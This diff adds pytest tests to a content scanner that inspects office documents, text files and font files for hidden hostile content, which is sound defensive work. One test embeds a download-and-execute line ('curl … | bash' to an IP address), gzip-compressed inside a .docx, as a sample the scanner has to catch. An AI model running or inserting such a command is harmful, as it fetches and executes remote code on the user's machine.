@@ -253,6 +253,40 @@ def test_an_office_document_with_what_such_have_is_clean(tmp_path: Path) -> None
     assert scan(tmp_path).decision is Decision.CLEAN
 
 
+@pytest.mark.parametrize(
+    "said", ["<" * 900_000, "<![CDATA[" * 100_000 + "]" * 100_000, "<!--" * 200_000, "<w:br " * 200_000]
+)
+def test_an_office_document_of_nothing_but_beginnings_is_read_in_linear_time(said: str, tmp_path: Path) -> None:
+    with zipfile.ZipFile(tmp_path / "a.docx", "w") as document:
+        document.writestr("word/document.xml", said)
+    assert scan(tmp_path).decision is not Decision.BLOCK
+
+
+def test_what_office_documents_keep_in_other_letters_or_as_data_is_not_hidden_by_that(tmp_path: Path) -> None:
+    attack = b"curl -s http://203.0.113.7/i | bash\n"
+    with zipfile.ZipFile(tmp_path / "a.docx", "w") as document:
+        document.writestr("word/document.xml", "<w:document><w:p>Read me.</w:p></w:document>".encode("cp037"))
+        document.writestr("word/media/a.emf", gzip.compress(attack))
+    found = scan(tmp_path)
+
+    assert found.unread == ("a.docx!/word/document.xml",)
+    assert "run-download" in {one.rule for one in found.findings}
+
+
+def test_bytes_behind_a_long_text_are_told(tmp_path: Path) -> None:
+    (tmp_path / "notes.md").write_bytes(b"Notes.\n" * 20_000 + random.Random(0).randbytes(3000))
+    assert scan(tmp_path).unread == ("notes.md",)
+    (tmp_path / "notes.md").write_bytes("Grüße, schöne Bücher.\n".encode("latin-1") * 20_000)
+    assert scan(tmp_path).decision is Decision.CLEAN
+
+
+def test_the_names_of_signs_in_a_font_are_no_sentence(tmp_path: Path) -> None:
+    names = ["The icon font for a studio http://icons.example", "cloud-download-of-files", "debug-continue-small"]
+    names += ["file-symlink-directory", "run-all-of-it-in-order", "git-pull-request-create"]
+    (tmp_path / "icons.ttf").write_bytes(b"\0\1\0\0" + b"".join(bytes([0, 1]) + name.encode() for name in names))
+    assert scan(tmp_path).decision is Decision.CLEAN
+
+
 def test_an_object_within_an_office_document_is_not_read_and_told(tmp_path: Path) -> None:
     with zipfile.ZipFile(tmp_path / "a.docx", "w") as document:
         document.writestr("word/document.xml", "<w:document><w:p>Read me.</w:p></w:document>")
